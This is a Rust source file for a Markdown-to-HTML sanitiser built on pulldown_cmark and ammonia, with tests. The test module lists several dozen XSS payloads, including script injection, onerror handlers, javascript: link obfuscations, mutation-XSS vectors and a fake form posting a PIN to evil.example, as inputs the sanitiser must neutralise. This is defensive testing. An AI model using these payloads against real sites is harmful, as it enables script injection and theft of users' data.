//! Markdown fields as safe HTML.
//!
//! Nothing of it is obeyed but emphasis, lists, quotes and links. Raw HTML is dropped, and
//! [`raw_html`] tells of it before anybody signs a text that would lose words.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};

/// The deepest nesting that is kept; what lies deeper is set flat, so that no text can make the
/// sanitiser's time grow with the square of its length.
const DEEPEST: usize = 12;

/// The longest text that is read as Markdown, in bytes; a longer one is shown as it stands.
const LONGEST: usize = 64 * 1024;

/// Turns a Markdown field into HTML with links to http, https and mailto only.
pub fn markdown_to_html(markdown: &str) -> String {
    if markdown.len() > LONGEST {
        return format!("<p>{}</p>", escape(markdown));
    }
    let parser = Parser::new_ext(markdown, Options::empty());
    let mut rendered = String::with_capacity(markdown.len() + 16);
    html::push_html(&mut rendered, tamed(parser).into_iter());
    SANITISER.clean(rendered.trim_end()).to_string()
}

/// Returns the first piece of raw HTML in a Markdown field, which documents leave out.
pub fn raw_html(markdown: &str) -> Option<String> {
    Parser::new_ext(markdown, Options::empty()).find_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(raw.trim().to_string()),
        _ => None,
    })
}

/// Escapes a plain text for element content and for quoted attributes.
pub fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            '\0' => escaped.push('\u{FFFD}'),
            plain => escaped.push(plain),
        }
    }
    escaped
}

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "em",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "ul",
    ];
    let attributes = HashMap::from([
        ("a", HashSet::from(["href", "title"])),
        ("ol", HashSet::from(["start"])),
    ]);
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .tag_attributes(attributes)
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"));
    builder
});

/// Keeps what a field may hold: no raw HTML, no pictures, no headings, no deep nesting.
fn tamed<'a>(events: impl Iterator<Item = Event<'a>>) -> Vec<Event<'a>> {
    let mut kept = Vec::new();
    let mut depth = 0_usize;
    for event in events {
        match event {
            Event::Start(tag) => {
                depth += 1;
                if depth <= DEEPEST {
                    kept.extend(opened(tag));
                }
            }
            Event::End(end) => {
                if depth <= DEEPEST {
                    kept.extend(closed(end));
                }
                depth -= 1;
            }
            Event::Html(_) | Event::InlineHtml(_) => (),
            other => kept.push(other),
        }
    }
    kept
}

fn opened(tag: Tag<'_>) -> Vec<Event<'_>> {
    match tag {
        Tag::Image { .. } | Tag::HtmlBlock => vec![],
        // A field's own headings would break the page's outline.
        Tag::Heading { .. } => vec![Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)],
        other => vec![Event::Start(other)],
    }
}

fn closed<'a>(end: TagEnd) -> Vec<Event<'a>> {
    match end {
        TagEnd::Image | TagEnd::HtmlBlock => vec![],
        TagEnd::Heading(_) => vec![Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)],
        other => vec![Event::End(other)],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Tells whether a browser could find anything to obey in `html`.
    fn is_harmless(html: &str) -> bool {
        let allowed = [
            "a",
            "blockquote",
            "br",
            "code",
            "em",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "ul",
        ];
        html.split('<').skip(1).all(|part| {
            let tag = part.split('>').next().unwrap_or_default();
            let name = tag.trim_start_matches('/');
            let name = name.split([' ', '/']).next().unwrap_or_default();
            let attributes = tag.strip_prefix(name).unwrap_or_default();
            let is_link = name == "a"
                && [
                    " href=\"http://",
                    " href=\"https://",
                    " href=\"mailto:",
                    " rel=",
                ]
                .iter()
                .any(|start| attributes.starts_with(start));
            allowed.contains(&name)
                && (attributes.trim().is_empty()
                    || is_link
                    || attributes.starts_with(" title=\"")
                    || attributes.starts_with(" start=\""))
        })
    }

    #[test]
    fn a_field_keeps_its_emphasis_lists_and_links() {
        assert_eq!(
            markdown_to_html("Say **who** and *when*:\n\n- name\n- time"),
            "<p>Say <strong>who</strong> and <em>when</em>:</p>\n<ul>\n<li>name</li>\n<li>time</li>\n</ul>"
        );
        assert_eq!(
            markdown_to_html("[form](https://example.org/a?b=1&c=2)"),
            "<p><a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">form</a></p>"
        );
    }

    #[test]
    fn a_heading_in_a_field_is_a_bold_line_and_a_picture_its_description() {
        assert_eq!(
            markdown_to_html("# First\n\nThen ![the form](data:image/png;base64,AAAA)."),
            "<p><strong>First</strong></p>\n<p>Then the form.</p>"
        );
    }

    #[test]
    fn hostile_texts_are_shown_and_not_obeyed() {
        let hostile = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<IMG \"\"\"><SCRIPT>alert('XSS')</SCRIPT>\"\\>",
            "<svg/onload=alert(1)>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe src=javascript:alert(1)>",
            "<body onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<style>@import 'http://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<<script>alert(1);//<</script>",
            "</title><script>alert(1)</script>",
            "</article></main><form action=//evil.example><input name=pin>",
            "<!--<img src=--><img src=x onerror=alert(1)//-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?><x onclick=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](\u{1}javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](file:///etc/passwd)",
            "[x](//evil.example)",
            "[x](https://e.example \"\\\" onmouseover=\\\"alert(1)\")",
            "<javascript:alert(1)>",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "![x\" onerror=\"alert(1)](https://e.example/x.png)",
            "[a]: javascript:alert(1)\n\n[a]",
            "``` \"><script>alert(1)</script>\n<b onclick=x>\n```",
            "> <div>\n> <script>",
            "- <b\n- onclick=alert(1)>",
            "\u{0}<script\u{0}>alert(1)</script>",
        ];
        for text in hostile {
            let html = markdown_to_html(text);
            assert!(is_harmless(&html), "{text}\n{html}");
        }
        assert!(!is_harmless("<p onclick=\"x\">") && !is_harmless("<img src=x>"));
    }

    #[test]
    fn raw_html_is_dropped_and_told_of() {
        let text = "Say <b>please</b>, <name>.";
        assert_eq!(markdown_to_html(text), "<p>Say please, .</p>");
        assert_eq!(raw_html(text).as_deref(), Some("<b>"));
        assert_eq!(raw_html("Say *please*, [name]. 3 < 4 > 2"), None);
    }

    #[test]
    fn endless_marks_cost_no_more_than_their_length() {
        let marks = [
            ">", "[", "*", "_a ", "- ", "`", "![", "<", "**a ", "[a](", "> - ", "&",
        ];
        for mark in marks {
            let html = markdown_to_html(&mark.repeat(8 * 1024 / mark.len()));
            assert!(is_harmless(&html), "{mark}");
            assert!(html.matches("<blockquote>").count() <= DEEPEST);
        }
    }

    #[test]
    fn a_text_of_five_megabytes_is_shown_as_it_stands() {
        let long = ">".repeat(5 * 1024 * 1024);
        let html = markdown_to_html(&long);
        assert_eq!(html.matches("&gt;").count(), long.len());
    }
}
